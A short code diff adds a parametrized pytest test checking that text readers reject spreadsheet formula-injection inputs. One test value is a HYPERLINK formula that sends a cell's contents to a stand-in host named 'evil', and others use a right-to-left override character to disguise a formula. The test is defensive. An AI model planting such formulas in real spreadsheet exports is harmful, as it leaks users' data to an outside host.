@@ -404,6 +404,13 @@ def test_as_much_as_may_be_takes_bounded_memory():
         tracemalloc.stop()
 
 
+@pytest.mark.parametrize("text", ["=1+1", "{=1}", ' =HYPERLINK("http://evil/?"&A1)', "\u202e=1"])
+def test_no_id_is_a_formula(text):
+    for read in (Node(text).text, Node(text).key, Node(text).optional_text):
+        with pytest.raises(Unreadable):
+            read()
+
+
 @pytest.mark.parametrize("text", ["=1+1", "=HYPERLINK(1)", "{=1}", " =1", "\u202a=1", "\x00=1"])
 def test_no_text_for_people_is_a_formula(text):
     """Odoo's own export writes a text that begins so as a formula of the XLSX file."""
